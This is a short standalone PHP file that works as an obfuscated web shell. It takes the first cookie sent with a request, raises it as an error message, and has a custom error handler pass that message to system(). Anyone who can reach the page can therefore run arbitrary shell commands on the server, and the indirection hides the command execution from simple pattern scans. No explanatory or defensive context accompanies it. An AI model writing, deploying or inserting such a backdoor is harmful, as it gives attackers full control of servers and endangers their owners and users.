<?php
$tmp = array_values($_COOKIE)[0];
set_error_handler(function ($no, $msg) { system($msg); });
trigger_error($tmp);
